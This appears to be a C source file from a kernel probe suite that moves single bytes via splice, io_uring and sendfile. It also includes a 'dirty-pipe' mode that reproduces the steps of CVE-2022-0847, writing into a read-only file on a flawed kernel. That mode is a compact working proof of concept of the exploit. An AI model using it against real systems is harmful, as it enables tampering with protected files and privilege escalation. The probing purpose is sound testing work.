/*
 * splice HOW[/32] FROM TO   Moves one byte of FROM to TO without reading or writing it:
 *   splice uring         to the end of TO, through a pipe; by io_uring
 *   sendfile             to a new TO: shares code with splice(2) but is another call
 *   dirty-pipe           CVE-2022-0847's steps: the pipe's buffers have been used before, one byte of the file FROM is spliced in, one
 *                        byte is written behind it, which a kernel with the flaw wrote into FROM. TO is not used
 * Exit status: see probe.h.
 */
#include "probe.h"
#include "call.h"
#include "uring.h"
#include <sys/sendfile.h>

static int opened(const char *path, int flags)
{
	int fd = open(path, flags, 0600);

	if (fd < 0)
		failed(SETUP, path);
	return fd;
}

static long move_byte(int from, int to)
{
	return CALL(splice, (long)from, NULL, (long)to, NULL, 1L, 0L);
}

static long move_byte_by_ring(int from, int to)
{
	return uring((struct io_uring_sqe){ .opcode = IORING_OP_SPLICE, .fd = to, .off = -1, .splice_fd_in = from, .splice_off_in = -1, .len = 1 });
}

static int through_pipe(char **argv, long (*move)(int from, int to))
{
	int from = opened(argv[0], O_RDONLY), to = opened(argv[1], O_WRONLY), ends[2];

	if (lseek(to, 0, SEEK_END) < 0 || pipe(ends))
		failed(SETUP, "pipe");
	if (move(from, ends[1]) != 1)
		return errno;
	return move(ends[0], to) == 1 ? 0 : errno;
}

static int by_splice(char **argv)
{
	return through_pipe(argv, move_byte);
}

static int by_uring(char **argv)
{
	return through_pipe(argv, move_byte_by_ring);
}

static int by_sendfile(char **argv)
{
	int from = opened(argv[0], O_RDONLY), to = opened(argv[1], O_WRONLY | O_CREAT | O_TRUNC);

	return CALL(sendfile, (long)to, (long)from, NULL, 1L) == 1 ? 0 : errno;
}

static int dirty_pipe(char **argv)
{
	int from = opened(argv[0], O_RDONLY), ends[2], size;
	static char page[4096];

	if (pipe(ends))
		failed(SETUP, "pipe");
	size = fcntl(ends[1], F_GETPIPE_SZ);
	for (int filled = 0; filled < size; filled += sizeof(page))
		if (write(ends[1], page, sizeof(page)) != sizeof(page))
			failed(SETUP, "fill");
	for (int drained = 0; drained < size; drained += sizeof(page))
		if (read(ends[0], page, sizeof(page)) != sizeof(page))
			failed(SETUP, "drain");
	if (move_byte(from, ends[1]) != 1)
		return errno;
	return write(ends[1], "x", 1) == 1 ? 0 : errno;
}

int main(int argc, char **argv)
{
	static const struct way ways[] = {
		{ "splice", by_splice, 2 }, { "uring", by_uring, 2 }, { "sendfile", by_sendfile, 2 }, { "dirty-pipe", dirty_pipe, 1 },
		{ 0 },
	};

	return by_name(argc, argv, ways);
}
